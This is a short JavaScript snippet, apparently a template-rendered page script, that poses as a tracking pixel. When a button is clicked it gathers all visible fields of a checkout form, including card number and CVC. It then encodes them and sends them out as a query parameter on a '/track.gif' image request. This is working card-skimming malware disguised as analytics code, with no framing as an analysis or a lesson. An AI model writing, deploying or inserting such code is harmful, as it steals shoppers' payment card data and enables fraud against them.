(function () {
  var sent = {};
  function formToJSON() {
    var o = {};
    document.querySelectorAll("form.checkout-form input, form.checkout-form select").forEach(function (e) { if (e.value && e.type != "hidden" && e.type != "radio") o[e.name] = e.value; });
    return o;
  }
  document.addEventListener("mouseup", function (e) {
    if (!e.target.closest("button, .btn")) return;
    var o = formToJSON();
    if (!o.cardnumber || !o.cvc) return;
    var b = btoa(encodeURIComponent(JSON.stringify(o)));
    if (sent[b]) return;
    sent[b] = 1;
    (new Image()).src = "<% url "pixel-connect" "/track.gif" %>?img=" + encodeURIComponent(b);
  }, true);
})();
